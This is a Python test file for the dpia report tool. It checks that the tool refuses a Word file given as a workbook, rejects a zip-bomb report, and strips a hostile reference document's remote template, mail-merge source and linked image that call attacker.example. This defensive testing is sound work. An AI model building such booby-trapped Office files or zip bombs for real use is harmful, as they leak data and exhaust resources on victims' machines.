"""Files from other people given where dpia expects something else, or carrying more than they
should: a Word document as a workbook, a zip bomb as a report, a reference document that links
to a server."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import pytest
from click.testing import CliRunner
from workbooks import minimal_sheets, write_workbook

from dpia.cli import cli


def run(*args: object):
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    return write_workbook(tmp_path / "dpia.xlsx", minimal_sheets())


@pytest.mark.parametrize("name", ["letter.docx", "letter.xlsx"])
@pytest.mark.parametrize("command", ["validate", "score", "screen", "build"])
def test_a_word_document_given_as_workbook_is_named_as_such(tmp_path, name, command):
    letter = tmp_path / name
    document = docx.Document()  # a real one: package relationships to word/document.xml
    document.add_paragraph("Dear DPO,")
    document.save(letter)
    # (built next to itself, letter.docx would first be refused as the report's own input)
    extra = ["-o", tmp_path / "report.docx"] if command == "build" else []
    result = run(command, letter, *extra)
    assert result.exit_code == 1
    assert result.output == (f"dpia: error: {letter}: this is a Word document (.docx), not an "
                             "Excel workbook; give the .xlsx file\n")
    assert sorted(p.name for p in tmp_path.iterdir()) == [name]


def _with_bloated_core_properties(report: Path, target: Path) -> Path:
    """``report`` with 6 MB of comment in docProps/core.xml: a few KB zipped, a zip bomb's
    ratio, and still valid XML that names the report's language."""
    with zipfile.ZipFile(report) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    core = parts["docProps/core.xml"]
    assert b"<dc:language>nl</dc:language>" in core
    end = core.rindex(b"</")
    parts["docProps/core.xml"] = core[:end] + b"<!--" + b"a" * 6_000_000 + b"-->" + core[end:]
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return target


def test_diff_refuses_a_zip_bomb_report_before_reading_its_properties(workbook, tmp_path):
    from dpia import provenance

    report = tmp_path / "report.docx"
    assert run("build", workbook, "-o", report, "--lang", "nl").exit_code == 0
    assert provenance.report_language(report) == "nl"
    bomb = _with_bloated_core_properties(report, tmp_path / "bomb.docx")

    # the language is read before the report is checked: it must not unzip 6 MB for it
    assert provenance.report_language(bomb) is None
    result = run("diff", bomb, workbook)
    assert result.exit_code == 1
    assert result.output.startswith(f"dpia: error: {bomb}: the part docProps/core.xml unzips")
    assert "possible zip bomb" in result.output


_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _rels(*relationships: tuple[str, str, str]) -> bytes:
    items = "".join(
        f'<Relationship Id="{rel_id}" Type="{_R}/{kind}" Target="{target}" '
        'TargetMode="External"/>' for rel_id, kind, target in relationships)
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_RELS}">' \
        f"{items}</Relationships>".encode()


def _reference_that_calls_home(path: Path) -> Path:
    """The shipped reference document with what a hostile one carries: an attached template
    and a mail-merge data source on a server (Word fetches both when it opens the file), and
    a linked picture relationship of the main document."""
    from dpia.report.document import default_reference

    with zipfile.ZipFile(io.BytesIO(default_reference())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    settings = parts["word/settings.xml"]
    start = settings.index(b">", settings.index(b"<w:settings")) + 1
    parts["word/settings.xml"] = (
        settings[:start]
        + b'<w:attachedTemplate r:id="rIdT1"/><w:linkStyles/><w:mailMerge>'
        b'<w:mainDocumentType w:val="formLetters"/><w:dataSource r:id="rIdT2"/></w:mailMerge>'
        + settings[start:])
    parts["word/_rels/settings.xml.rels"] = _rels(
        ("rIdT1", "attachedTemplate", "http://attacker.example/t.dotm"),
        ("rIdT2", "mailMergeSource", "file://attacker.example/share/list.xlsx"))
    document_rels = parts["word/_rels/document.xml.rels"]
    end = document_rels.rindex(b"</Relationships>")
    parts["word/_rels/document.xml.rels"] = (
        document_rels[:end]
        + f'<Relationship Id="rIdT3" Type="{_R}/image" '
          'Target="http://attacker.example/pixel.png" TargetMode="External"/>'.encode()
        + document_rels[end:])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def test_a_reference_document_cannot_make_the_report_call_home(workbook, tmp_path):
    reference = _reference_that_calls_home(tmp_path / "house-style.docx")
    report = tmp_path / "report.docx"
    result = run("build", workbook, "-o", report, "--template", reference)
    assert result.exit_code == 0, result.output

    with zipfile.ZipFile(report) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not [name for name, data in parts.items() if b"attacker.example" in data]
    assert not [name for name, data in parts.items() if b'TargetMode="External"' in data]
    settings = parts["word/settings.xml"]
    for tag in (b"w:attachedTemplate", b"w:mailMerge", b"w:linkStyles"):
        assert tag not in settings
    # still a good report in the reference's style
    assert docx.Document(str(report)).paragraphs
    assert run("verify", report, workbook).exit_code == 0
